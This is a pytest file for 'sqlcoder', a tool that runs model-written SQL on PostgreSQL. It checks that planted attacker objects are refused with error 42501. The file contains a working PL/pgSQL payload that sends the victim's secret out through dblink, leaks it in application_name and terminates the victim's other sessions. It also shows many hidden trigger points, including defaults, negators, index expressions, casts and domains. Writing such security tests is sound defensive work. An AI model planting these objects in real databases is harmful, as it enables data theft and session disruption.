"""Planted objects whose code PostgreSQL runs although the analyzed query never names it.

An attacker role owns a schema and plants objects that the model's SQL (served by the stand-in daemon,
so the "model" returns exactly the SQL each case names) touches: a function's argument default, an
operator's negator, index expressions and predicates, a type's cast to json, domains named only in a
column definition list or xmltable's COLUMNS, a multirange over a domain. Each carries code that, run as
the victim, copies the victim's secret to the attacker's own database through dblink, publishes it as
``application_name`` and terminates the victim's other session. The victim calls ``sqlcoder.run`` (and
``sqlcoder.execute``); each case must end in 42501 from the function policy where PostgreSQL was about
to call the code, with nothing copied, the victim's settings unchanged and the bystander alive.
``test_the_planted_code_works_without_sqlcoder`` shows that the same SQL run directly does leak.
"""

from __future__ import annotations

import contextlib
import os
from collections.abc import Iterator

import psycopg
import pytest

from plugins.postgres import SHOP_TEMPLATE
from sqlcoder_dev.fake_daemon import FakeDaemon, drop_run_database, setup_run_database, socket_dir
from sqlcoder_dev.pgcluster import Cluster

DB = f"planted_{os.getpid()}"
LOOT_DB = f"planted_loot_{os.getpid()}"
VICTIM = f"planted_victim_{os.getpid()}"
ATTACKER = f"planted_attacker_{os.getpid()}"
ATTACKER_PASSWORD = "attacker-pw-1"
SECRET = "victim-secret-7f3a"
BYSTANDER = "planted-bystander"


def _steal(loot: str) -> str:
    """The planted body: as the victim, copy the secret out three ways; as anyone else, do nothing."""
    return f"""
DECLARE secret text;
BEGIN
  BEGIN
    SELECT s INTO secret FROM public.victim_secret;
  EXCEPTION WHEN insufficient_privilege THEN
    RETURN $1;
  END;
  PERFORM public.dblink_exec({loot!r}, pg_catalog.format('INSERT INTO loot VALUES (%L)', secret));
  PERFORM pg_catalog.set_config('application_name', secret, false);
  PERFORM pg_catalog.pg_terminate_backend(pid) FROM pg_catalog.pg_stat_activity
    WHERE application_name = '{BYSTANDER}';
  RETURN $1;
END"""


def _planted(loot: str) -> str:
    steal = _steal(loot)
    return f"""
CREATE SCHEMA atk;
GRANT USAGE ON SCHEMA atk TO PUBLIC;
CREATE FUNCTION atk.steal(integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $body${steal}$body$;
CREATE FUNCTION atk.steal_cmp(integer, integer) RETURNS boolean LANGUAGE plpgsql IMMUTABLE
  AS $body$ BEGIN RETURN atk.steal($1) IS NULL; END $body$;
-- SQL that leaks without procedural code: what it calls is checked where it is called
CREATE FUNCTION atk.leak_sql() RETURNS integer LANGUAGE sql VOLATILE
  AS $body$ SELECT pg_catalog.length(pg_catalog.set_config('application_name',
            (SELECT s FROM public.victim_secret), false)) $body$;

-- planner-inserted: argument defaults, a negator
CREATE FUNCTION atk.pick(a integer, b integer DEFAULT atk.steal(1)) RETURNS integer
  LANGUAGE sql IMMUTABLE AS 'SELECT $1';
CREATE FUNCTION atk.pick_volatile(a integer, b integer DEFAULT atk.leak_sql()) RETURNS integer
  LANGUAGE sql STABLE AS 'SELECT $1 + 0 * $2';
CREATE FUNCTION atk.pick_rows(n integer) RETURNS SETOF integer LANGUAGE sql STABLE
  AS 'SELECT atk.pick(g) FROM pg_catalog.generate_series(1, n) g';
CREATE FUNCTION atk.lt_ok(integer, integer) RETURNS boolean LANGUAGE sql IMMUTABLE AS 'SELECT $1 < $2';
CREATE OPERATOR atk.>>>= (LEFTARG = integer, RIGHTARG = integer, FUNCTION = atk.steal_cmp);
CREATE OPERATOR atk.<<< (LEFTARG = integer, RIGHTARG = integer, FUNCTION = pg_catalog.int4lt,
  NEGATOR = OPERATOR(atk.>>>=));

-- evaluated while planning: an index expression and an index predicate folded as constants
CREATE TABLE atk.expr_t (id integer, v integer);
INSERT INTO atk.expr_t VALUES (1, 1);
CREATE INDEX ON atk.expr_t ((v + atk.steal(1)));
CREATE TABLE atk.pred_t (id integer);
INSERT INTO atk.pred_t VALUES (1);
CREATE INDEX ON atk.pred_t (id) WHERE atk.steal(1) > 0;

-- casts run while the result is built: a type's cast to json, used by row-to-JSON conversion
CREATE TYPE atk.mood AS ENUM ('ok', 'fine');
CREATE FUNCTION atk.mood_json(atk.mood) RETURNS json LANGUAGE plpgsql IMMUTABLE
  AS $body$ BEGIN RETURN pg_catalog.to_json(atk.steal(1)); END $body$;
CREATE CAST (atk.mood AS json) WITH FUNCTION atk.mood_json(atk.mood);
CREATE TYPE atk.tone AS ENUM ('calm');
CREATE FUNCTION atk.tone_json(atk.tone) RETURNS json LANGUAGE sql IMMUTABLE
  AS $body$ SELECT pg_catalog.to_json(atk.leak_sql()) $body$;
CREATE CAST (atk.tone AS json) WITH FUNCTION atk.tone_json(atk.tone);
CREATE TABLE atk.moods (m atk.mood, t atk.tone);
INSERT INTO atk.moods VALUES ('ok', 'calm');

-- types the walk meets only at run time: domains in a column definition list, xmltable COLUMNS, multiranges
CREATE DOMAIN atk.pos AS integer CHECK (atk.steal(VALUE) > 0);
CREATE TYPE atk.posrange AS RANGE (SUBTYPE = atk.pos);
CREATE TABLE atk.ranges (r atk.posmultirange);
-- a range type's subtype_diff, run by the planner's estimates (never by the executor)
CREATE FUNCTION atk.diff(integer, integer) RETURNS double precision LANGUAGE plpgsql IMMUTABLE
  AS $body$ BEGIN RETURN atk.steal($1 - $2); END $body$;
CREATE TYPE atk.irange AS RANGE (SUBTYPE = integer, SUBTYPE_DIFF = atk.diff);
CREATE TABLE atk.spans (r atk.irange);
INSERT INTO atk.spans SELECT atk.irange(g, g + 3) FROM pg_catalog.generate_series(1, 500) g;
ANALYZE atk.spans;
GRANT SELECT ON ALL TABLES IN SCHEMA atk TO PUBLIC;
"""


# (case id, class, SQL the model returns, what PostgreSQL was doing when the hook refused)
PLANTED_CASES = [
    ("default-folded", "planner-inserted", "SELECT atk.pick(id) FROM customers", "EXPLAIN"),
    ("default-volatile", "planner-inserted", "SELECT atk.pick_volatile(id) FROM customers", "EXPLAIN"),
    ("default-in-inlined-srf", "planner-inserted", "SELECT * FROM atk.pick_rows(2)", "EXPLAIN"),
    ("negator-where", "planner-inserted", "SELECT id FROM customers WHERE NOT (id OPERATOR(atk.<<<) 3)",
     "EXPLAIN"),
    ("negator-target", "planner-inserted", "SELECT NOT (1 OPERATOR(atk.<<<) id) AS n FROM customers", "EXPLAIN"),
    ("index-expression", "planning", "SELECT id FROM atk.expr_t", "EXPLAIN"),
    ("index-predicate", "planning", "SELECT id FROM atk.pred_t WHERE id = 1", "EXPLAIN"),
    ("range-subtype-diff", "planning", "SELECT count(*) AS n FROM atk.spans WHERE r && atk.irange(10, 20)", "walk"),
    ("cast-to-json-plpgsql", "result", "SELECT m FROM atk.moods", "running"),
    ("cast-to-json-literal", "result", "SELECT 'fine'::atk.mood AS m", "running"),
    ("cast-to-json-sql", "result", "SELECT t FROM atk.moods", "running"),
    ("coldef-json-to-record", "types", """SELECT * FROM json_to_record('{"v": 5}') AS r(v atk.pos)""", "running"),
    ("coldef-jsonb-recordset", "types", """SELECT * FROM jsonb_to_recordset('[{"v": 5}]') AS r(v atk.pos)""",
     "running"),
    ("xmltable-columns", "types",
     "SELECT * FROM xmltable('/r' PASSING CAST('<r><v>5</v></r>' AS xml) COLUMNS v atk.pos PATH 'v')", "running"),
    ("multirange-literal", "types", "SELECT '{[1,2)}'::atk.posmultirange AS r", "analyzing"),
    ("multirange-operand", "types", "SELECT r + '{[3,4)}' AS r FROM atk.ranges", "analyzing"),
]


@pytest.fixture(scope="module")
def shop_daemon(pg: Cluster) -> Iterator[FakeDaemon]:
    hba = pg.datadir / "pg_hba.conf"
    original = hba.read_text()
    hba.write_text(f"local {LOOT_DB} {ATTACKER} scram-sha-256\n" + original)
    pg.psql("SELECT pg_reload_conf()")
    loot = f"host={pg.sockdir} port={pg.port} dbname={LOOT_DB} user={ATTACKER} password={ATTACKER_PASSWORD}"
    with FakeDaemon(socket_dir() / "planted.sock") as daemon:
        setup_run_database(pg, DB, SHOP_TEMPLATE, daemon.path, VICTIM, {"query_timeout_ms": "5000"})
        pg.psql(f"DO $$BEGIN CREATE ROLE \"{ATTACKER}\" LOGIN PASSWORD '{ATTACKER_PASSWORD}'; "
                "EXCEPTION WHEN duplicate_object THEN NULL; END$$")
        pg.psql(f'CREATE DATABASE "{LOOT_DB}" OWNER "{ATTACKER}"')
        pg.psql(f'CREATE TABLE loot (s text); ALTER TABLE loot OWNER TO "{ATTACKER}"', dbname=LOOT_DB)
        try:
            with pg.connect(DB) as admin:
                admin.execute("CREATE EXTENSION dblink")
                admin.execute("CREATE TABLE public.victim_secret (s text)")
                admin.execute("INSERT INTO public.victim_secret VALUES (%s)", (SECRET,))
                admin.execute("REVOKE ALL ON public.victim_secret FROM PUBLIC")
                admin.execute(f'GRANT SELECT ON public.victim_secret TO "{VICTIM}"')
                admin.execute(f'GRANT CREATE ON DATABASE "{DB}" TO "{ATTACKER}"')
            pg.psql(_planted(loot), dbname=DB, user=ATTACKER)
            yield daemon
        finally:
            drop_run_database(pg, DB, VICTIM)
            pg.psql(f'DROP DATABASE IF EXISTS "{LOOT_DB}" WITH (FORCE)', check=False)
            pg.psql(f'DROP ROLE IF EXISTS "{ATTACKER}"', check=False)
            hba.write_text(original)
            pg.psql("SELECT pg_reload_conf()")


def _loot(pg: Cluster) -> list[str]:
    with pg.connect(LOOT_DB) as conn:
        return [r[0] for r in conn.execute("SELECT s FROM loot")]


@pytest.fixture
def bystander_conn(pg: Cluster, shop_daemon: FakeDaemon) -> Iterator[psycopg.Connection]:
    """The victim's other session, which the planted code would terminate."""
    with pg.connect(DB, user=VICTIM, application_name=BYSTANDER) as conn:
        yield conn


@pytest.fixture
def victim(pg: Cluster, shop_daemon: FakeDaemon, bystander_conn: psycopg.Connection) -> Iterator[psycopg.Connection]:
    with pg.connect(DB, user=VICTIM, options="-c statement_timeout=30000") as conn:
        yield conn


def _assert_nothing_left(pg: Cluster, victim: psycopg.Connection, bystander_conn: psycopg.Connection) -> None:
    assert _loot(pg) == [], "the secret reached the attacker's database"
    assert victim.execute("SELECT current_setting('application_name')").fetchone()[0] == ""
    assert bystander_conn.execute("SELECT 1").fetchone()[0] == 1, "the victim's other session was terminated"
    with pg.connect(DB) as admin:
        shown = admin.execute("SELECT count(*) FROM pg_stat_activity WHERE application_name = %s", (SECRET,))
        assert shown.fetchone()[0] == 0


@contextlib.contextmanager
def _xpath_allowed(pg: Cluster, allowed: bool) -> Iterator[None]:
    """XMLTABLE is refused as xpath by default (libxml2 never checks interrupts): allowed, its COLUMNS' domain is."""
    signature = "pg_catalog.xpath(text, xml, text[])"
    if allowed:
        with pg.connect(DB) as admin:
            admin.execute("SELECT sqlcoder.allow_function(%s)", (signature,))
    try:
        yield
    finally:
        if allowed:
            with pg.connect(DB) as admin:
                admin.execute("SELECT sqlcoder.reset_function(%s)", (signature,))


def _refusal(victim: psycopg.Connection, sql: str, *args: object) -> psycopg.errors.InsufficientPrivilege:
    with pytest.raises(psycopg.errors.InsufficientPrivilege) as err:
        victim.execute(sql, args).fetchall()
    return err.value


@pytest.mark.parametrize("case, kind, sql, phase", PLANTED_CASES, ids=[c[0] for c in PLANTED_CASES])
def test_planted_code_is_refused_where_postgresql_would_call_it(pg, shop_daemon, victim, bystander_conn, case, kind,
                                                                sql,
                                                                 phase) -> None:
    shop_daemon.reply(f" {sql};")
    with _xpath_allowed(pg, case.startswith("xmltable")):
        err = _refusal(victim, "SELECT * FROM sqlcoder.run('how are the customers feeling?')")
    assert err.diag.message_primary.startswith("sqlcoder refused the query: it calls atk."), \
        err.diag.message_primary
    assert "sqlcoder.allow_function('atk." in err.diag.message_hint
    assert f"SQL: {sql}" in err.diag.message_detail
    if phase == "walk":  # the walk names it before anything runs (and the hooks below, without the walk)
        assert "about to call" not in err.diag.message_detail
    else:
        assert phase in err.diag.message_detail
    _assert_nothing_left(pg, victim, bystander_conn)


@pytest.mark.parametrize("case, kind, sql, phase", PLANTED_CASES, ids=[c[0] for c in PLANTED_CASES])
def test_planted_code_is_refused_through_execute(pg, shop_daemon, victim, bystander_conn, case, kind, sql,
                                                 phase) -> None:
    with _xpath_allowed(pg, case.startswith("xmltable")):
        err = _refusal(victim, "SELECT * FROM sqlcoder.execute(%s)", sql)
    assert err.diag.message_primary.startswith("sqlcoder refused the query: it calls atk.")
    _assert_nothing_left(pg, victim, bystander_conn)


# How each armed C function is reached without the walk (granted roles may call them directly).
_DIRECT = {"EXPLAIN": "SELECT sqlcoder_internal._readonly_explain(%s, 'public')",
           "walk": "SELECT sqlcoder_internal._readonly_explain(%s, 'public')",
           "running": "SELECT * FROM sqlcoder_internal._run_readonly(%s, 'public', 10, 1000000, true)",
           "analyzing": "SELECT * FROM sqlcoder_internal._query_objects(%s)"}


@pytest.mark.parametrize("case, kind, sql, phase", PLANTED_CASES, ids=[c[0] for c in PLANTED_CASES])
def test_the_hooks_hold_without_the_walk(pg, shop_daemon, victim, bystander_conn, case, kind, sql, phase) -> None:
    """Analysis, planning and the run refuse the planted code themselves, with no list handed over."""
    err = _refusal(victim, _DIRECT[phase], sql)
    assert err.diag.message_primary.startswith("sqlcoder refused the query: it calls atk."), \
        err.diag.message_primary
    assert "PostgreSQL was about to call it" in err.diag.message_detail
    if case == "range-subtype-diff":  # called through fmgr by the planner's estimate: fmgr_hook saw it
        assert "it calls atk.diff(integer, integer)" in err.diag.message_primary
    _assert_nothing_left(pg, victim, bystander_conn)


def test_a_range_cached_before_the_first_sqlcoder_call_is_refused_by_the_walk(pg, shop_daemon, victim,
                                                                             bystander_conn) -> None:
    """The range's type cache entry (with its subtype_diff call set up) exists before the library is
    loaded in this backend, so fmgr_hook is never asked about it; the walk refuses the query first."""
    assert victim.execute("SELECT atk.irange(1, 2)::text").fetchone() == ("[1,2)",)
    err = _refusal(victim, "SELECT * FROM sqlcoder.execute(%s)",
                   "SELECT count(*) AS n FROM atk.spans WHERE r && atk.irange(10, 20)")
    assert "it calls atk.diff(integer, integer)" in err.diag.message_primary
    _assert_nothing_left(pg, victim, bystander_conn)


def test_the_refusal_is_recorded_as_refused(pg, shop_daemon, victim) -> None:
    shop_daemon.reply(" SELECT m FROM atk.moods;")
    _refusal(victim, "SELECT * FROM sqlcoder.run('moods?')")
    with pg.connect(DB) as admin:
        for _ in range(100):
            row = admin.execute("SELECT outcome, error_sqlstate FROM sqlcoder.history WHERE role = %s "
                                "ORDER BY id DESC LIMIT 1", (VICTIM,)).fetchone()
            if row is not None:
                break
            victim.execute("SELECT pg_sleep(0.05)")
    assert row == ("refused", "42501")


def test_a_dba_can_allow_a_planted_function_by_signature(pg, shop_daemon, victim, bystander_conn) -> None:
    with pg.connect(DB) as admin:
        admin.execute("SELECT sqlcoder.allow_function('atk.mood_json(atk.mood)')")
        try:
            # mood_json is allowed now; what it calls (atk.steal, plpgsql) still is not
            err = _refusal(victim, "SELECT * FROM sqlcoder.execute('SELECT m FROM atk.moods')")
            assert "it calls atk.steal(integer)" in err.diag.message_primary
        finally:
            admin.execute("SELECT sqlcoder.reset_function('atk.mood_json(atk.mood)')")
    _assert_nothing_left(pg, victim, bystander_conn)


def test_the_hooks_are_off_after_the_call(pg, shop_daemon, victim) -> None:
    """After a refusal and after a success, the victim's own SQL calls what it likes (the hooks disarmed)."""
    _refusal(victim, "SELECT * FROM sqlcoder.execute('SELECT m FROM atk.moods')")
    assert victim.execute("SELECT pg_catalog.set_config('application_name', 'mine', false)").fetchone() == ("mine",)
    victim.execute("SELECT count(*) FROM sqlcoder.execute('SELECT 1')").fetchone()
    assert victim.execute("SELECT atk.lt_ok(1, 2), pg_catalog.txid_current() > 0").fetchone() == (True, True)
    victim.execute("RESET application_name")
    with pytest.raises(psycopg.errors.QueryCanceled):  # a cancel mid-run disarms too
        victim.execute("SET statement_timeout = 200")
        victim.execute("SELECT * FROM sqlcoder.execute('SELECT count(*) FROM generate_series(1, 100000000)')")
    victim.execute("RESET statement_timeout")
    assert victim.execute("SELECT pg_catalog.txid_current() > 0").fetchone() == (True,)


@pytest.mark.parametrize("sql", ["SELECT atk.pick(id) FROM customers", "SELECT m FROM atk.moods",
                                 "SELECT id FROM atk.expr_t",
                                 "SELECT count(*) AS n FROM atk.spans WHERE r && atk.irange(10, 20)"])
def test_the_planted_code_works_without_sqlcoder(pg, shop_daemon, sql) -> None:
    """The same SQL run by the victim directly does copy the secret: the cases test something real."""
    with pg.connect(DB, user=VICTIM) as conn:
        conn.execute("SELECT pg_catalog.to_json(t) FROM (" + sql + ") t").fetchall()
    try:
        assert set(_loot(pg)) == {SECRET}  # (the planner may call a support function more than once)
    finally:
        with pg.connect(LOOT_DB) as conn:
            conn.execute("DELETE FROM loot")


def test_every_planted_case_is_in_the_security_note() -> None:
    from helpers.paths import ROOT
    note = (ROOT / "docs" / "security.md").read_text()
    rows = {cells[0]: cells for cells in
            ([c.strip() for c in line.strip().strip("|").split(" | ")] for line in note.splitlines()
             if line.startswith("| `"))}
    assert [c[0] for c in PLANTED_CASES if f"`{c[0]}`" not in rows] == []
    assert [c[0] for c in PLANTED_CASES if rows[f"`{c[0]}`"][3] != "42501"] == []
    assert len({c[1] for c in PLANTED_CASES}) == 4 and all(
        sum(c[1] == kind for c in PLANTED_CASES) >= 2 for kind in {c[1] for c in PLANTED_CASES})


def test_no_parallel_worker_runs_unarmed(victim) -> None:
    """Parallel workers would run plan parts with the hooks unarmed: the armed calls plan none."""
    victim.execute("SET parallel_setup_cost = 0; SET parallel_tuple_cost = 0; SET min_parallel_table_scan_size = 0")
    sql = "SELECT count(*) FROM customers"
    plain = victim.execute("EXPLAIN (FORMAT JSON) " + sql).fetchone()[0]
    assert "Gather" in str(plain), "the control should plan parallel workers"
    guarded = victim.execute("SELECT sqlcoder_internal._readonly_explain(%s, 'public')", (sql,)).fetchone()[0]
    assert "Gather" not in str(guarded)
    assert victim.execute("SHOW max_parallel_workers_per_gather").fetchone()[0] == "2"


def test_a_nested_guarded_call_is_refused_and_the_outer_one_resets(pg, shop_daemon, victim, bystander_conn) -> None:
    """A DBA's procedural function (trusted on its label by the walk) that calls sqlcoder.execute itself:
    the inner call is refused where it is set up, and afterwards nothing is left armed."""
    with pg.connect(DB) as admin:
        admin.execute("CREATE OR REPLACE FUNCTION public.dba_nested() RETURNS bigint LANGUAGE plpgsql STABLE "
                      "AS $$ BEGIN RETURN (SELECT count(*) FROM sqlcoder.execute('SELECT 1')); END $$")
        admin.execute(f'GRANT EXECUTE ON FUNCTION public.dba_nested() TO "{VICTIM}"')
    err = _refusal(victim, "SELECT * FROM sqlcoder.execute('SELECT public.dba_nested()')")
    assert err.diag.message_primary.startswith("sqlcoder refused the query: it calls sqlcoder.execute(text, integer)")
    assert "sqlcoder's own schemas are always refused" in err.diag.message_hint
    assert victim.execute("SELECT count(*) FROM sqlcoder.execute('SELECT 1')").fetchone() == (1,)
    assert victim.execute("SELECT public.dba_nested()").fetchone() == (1,)  # outside a guarded call: as ever
    _assert_nothing_left(pg, victim, bystander_conn)
